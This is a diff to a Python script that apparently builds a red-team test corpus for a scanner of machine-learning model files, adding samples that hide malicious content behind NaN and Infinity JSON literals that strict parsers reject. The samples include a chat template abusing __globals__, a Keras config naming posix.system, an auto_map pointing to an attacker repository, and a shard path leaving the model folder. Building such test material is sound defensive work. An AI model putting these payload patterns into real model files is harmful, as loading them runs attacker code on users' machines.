@@ -495,6 +495,29 @@ add("hf/shard_absolute/pytorch_model.bin.index.json", json.dumps({"metadata": {"
     "Hugging Face shard index", "an absolute shard path to a pickle dropped elsewhere (torch.load unpickles it)",
     IDX, "AutoModel.from_pretrained(local folder) with .bin shards (torch.load)", "model-hf-shard-outside", "/tmp/ward-redteam/uploaded.bin")
 
+# ---------------------------------------------------------------- JSON only Python reads: NaN / Infinity literals
+# json.dumps writes NaN and Infinity for float('nan') and float('inf') and
+# json.loads reads them; Go's encoding/json (and strict parsers) refuse the
+# whole document, so a scanner built on one leaves the config unread.
+PYJ = "Python json module (NaN/Infinity literals, allow_nan=True by default); RFC 8259 forbids them"
+add("json/nan_tokenizer/tokenizer_config.json", '{"model_max_length": NaN, "chat_template": %s}' % json.dumps(LOOP + EVIL_TPL),
+    "tokenizer_config.json", "NaN literal next to a malicious chat template", PYJ + "; CVE-2024-34359", TPL, TPLR, "__globals__")
+add("json/infinity_keras/config.json", '{"module": "keras", "class_name": "Sequential", "registered_name": null, "config": '
+    '{"name": "s", "trainable": true, "dtype_policy_scale": Infinity, "layers": [%s]}}' % json.dumps(dense(activation={
+        "module": "posix", "class_name": "function", "config": "system", "registered_name": None})),
+    "Keras 3 unzipped folder", "Infinity literal in a Keras config naming posix.system", PYJ + "; CVE-2025-1550",
+    K3 + " of the folder", KU, "posix.system")
+write("json/infinity_keras/model.weights.h5", weights_h5())
+add("json/nan_auto_map/config.json", '{"model_type": "x", "initializer_range": NaN, "auto_map": {"AutoModel": '
+    '"attacker/nan-repo--modeling_x.XModel"}}', "Hugging Face config.json", "NaN literal in a config whose auto_map names "
+    "another repository", PYJ + "; transformers dynamic_module_utils", "AutoModel.from_pretrained(trust_remote_code=True)",
+    HFR, "attacker/nan-repo")
+write("json/ninf_index/config.json", json.dumps({"model_type": "llama"}))
+add("json/ninf_index/model.safetensors.index.json", '{"metadata": {"total_size": -Infinity}, "weight_map": {"lm_head.weight": '
+    '"/home/user/.cache/other/model.safetensors"}}', "Hugging Face shard index", "-Infinity literal in a shard index that "
+    "climbs out of the folder", PYJ + "; huggingface/transformers #47176", "AutoModel.from_pretrained(local folder)",
+    "model-hf-shard-outside", "/home/user/.cache/other/model.safetensors")
+
 if __name__ == "__main__":
     with open(os.path.join(HERE, "manifest.json"), "w") as f:
         json.dump({"malicious": entries, "benign": benign}, f, indent=1)
